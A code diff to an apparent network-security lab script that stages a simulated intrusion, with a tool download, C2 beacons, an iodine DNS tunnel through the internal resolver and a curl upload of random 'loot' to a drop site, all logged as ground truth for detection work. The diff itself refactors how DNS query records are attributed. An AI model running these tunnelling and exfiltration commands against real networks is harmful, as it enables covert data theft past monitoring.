@@ -21,7 +21,7 @@ from lab.internet import TUNNEL_SECRET, tool
 from lab.rhythm import hands
 from lab.truth import Claim, Diary, Entry
 
-ZERO, SECOND = world.PATIENT_ZERO, world.SECOND_VICTIM
+ZERO, SECOND, RESOLVER = world.PATIENT_ZERO, world.SECOND_VICTIM, world.BY_NAME["ns-01"]
 POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682"
 STOLEN = "svc-deploy"
 TOOL_URL = f"http://{world.TOOL_SITE.name}{world.TOOL_PATH}"
@@ -116,7 +116,8 @@ class Intrusion:
     def download(self) -> None:
         """The click: the page behind the link, then the tool."""
         site, content = world.TOOL_SITE, Path(tool()).read_bytes()
-        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp"), _asked_for(site.name)]
+        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp")]
+        claims += _asked_for(site.name, ZERO, RESOLVER)
         entry = _entry("download", claims, ZERO.name, [site.name])
         digest = hashlib.sha256(content).hexdigest()
         entry.detail = {"url": TOOL_URL, "bytes": len(content), "sha256": digest}
@@ -128,11 +129,11 @@ class Intrusion:
 
     def beacon(self) -> None:
         """The tool calls home until the end."""
-        self._implant("beacon", ZERO, [_asked_for(world.C2_SITE.name)])
+        self._implant("beacon", ZERO, _asked_for(world.C2_SITE.name, ZERO, RESOLVER))
 
     def second_beacon(self) -> None:
         """The copy calls the same home."""
-        self._implant("second-beacon", SECOND, [])
+        self._implant("second-beacon", SECOND, _asked_for(world.C2_SITE.name, SECOND))
 
     def _implant(self, name: str, machine: world.Machine, more: Sequence[Claim]) -> None:
         site = world.C2_SITE
@@ -196,13 +197,13 @@ class Intrusion:
 
     def tunnel(self) -> None:
         """A tunnel by iodine through the company's own resolver, with a little data inside."""
-        resolver, lasts_s = world.BY_NAME["ns-01"], min(200.0, 0.16 * self._lasts_s)
-        claims = [_asked_for(world.TUNNEL_ZONE), _asked_for(world.TUNNEL_SITE.name)]
-        entry = _entry("tunnel", claims, ZERO.name, [resolver.name, world.TUNNEL_SITE.name])
+        lasts_s = min(200.0, 0.16 * self._lasts_s)
+        claims = _asked_for(world.TUNNEL_ZONE, ZERO, RESOLVER)
+        entry = _entry("tunnel", claims, ZERO.name, [RESOLVER.name, world.TUNNEL_SITE.name])
         entry.detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "bytes": TUNNEL_BYTES}
         with self._diary.action(entry):
             began = time.monotonic()
-            argv = ["iodine", "-f", "-r", "-P", TUNNEL_SECRET, resolver.ip, world.TUNNEL_ZONE]
+            argv = ["iodine", "-f", "-r", "-P", TUNNEL_SECRET, RESOLVER.ip, world.TUNNEL_ZONE]
             self._crew.start("iodine", ZERO.name, argv)
             self._await_tunnel()
             _on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
@@ -221,7 +222,8 @@ class Intrusion:
         site, loot = world.DROP_SITE, STATE / "loot.bin"
         loot.write_bytes(self._rng.randbytes(UPLOAD_BYTES))
         claim = Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp")
-        entry = _entry("upload", [claim, _asked_for(site.name)], SECOND.name, [site.name])
+        claims = [claim, *_asked_for(site.name, SECOND, RESOLVER)]
+        entry = _entry("upload", claims, SECOND.name, [site.name])
         entry.user, entry.detail = STOLEN, {"bytes": UPLOAD_BYTES}
         send = ("-k", "-A", "curl/7.88.1", "-H", "Expect:", "--data-binary", f"@{loot}")
         with self._diary.action(entry):
@@ -243,9 +245,9 @@ def _ssh() -> Claim:
     return Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")
 
 
-def _asked_for(name: str) -> Claim:
-    """The questions for a name: from whoever asked, and from the resolver to the provider."""
-    return Claim(port=53, protocol="udp", name=name)
+def _asked_for(name: str, *machines: world.Machine) -> list[Claim]:
+    """The questions of these machines for a name; the resolver passes some on to the provider."""
+    return [Claim(src=machine.ip, port=53, protocol="udp", name=name) for machine in machines]
 
 
 def indicators() -> list[dict[str, str]]:
